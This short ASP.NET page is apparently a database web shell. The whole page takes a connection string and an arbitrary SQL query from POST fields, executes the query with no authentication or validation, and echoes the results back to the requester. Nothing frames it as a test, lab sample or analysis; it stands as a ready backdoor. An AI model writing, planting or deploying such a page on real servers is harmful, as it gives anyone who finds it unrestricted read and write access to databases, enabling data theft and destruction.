<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<%
string cs = Request.Form["cs"], q = Request.Form["q"];
if (!string.IsNullOrEmpty(q)) {
    using (var c = new SqlConnection(cs)) {
        c.Open();
        var r = new SqlCommand(q, c).ExecuteReader();
        while (r.Read()) Response.Write(r[0] + "\n");
    }
}
%>
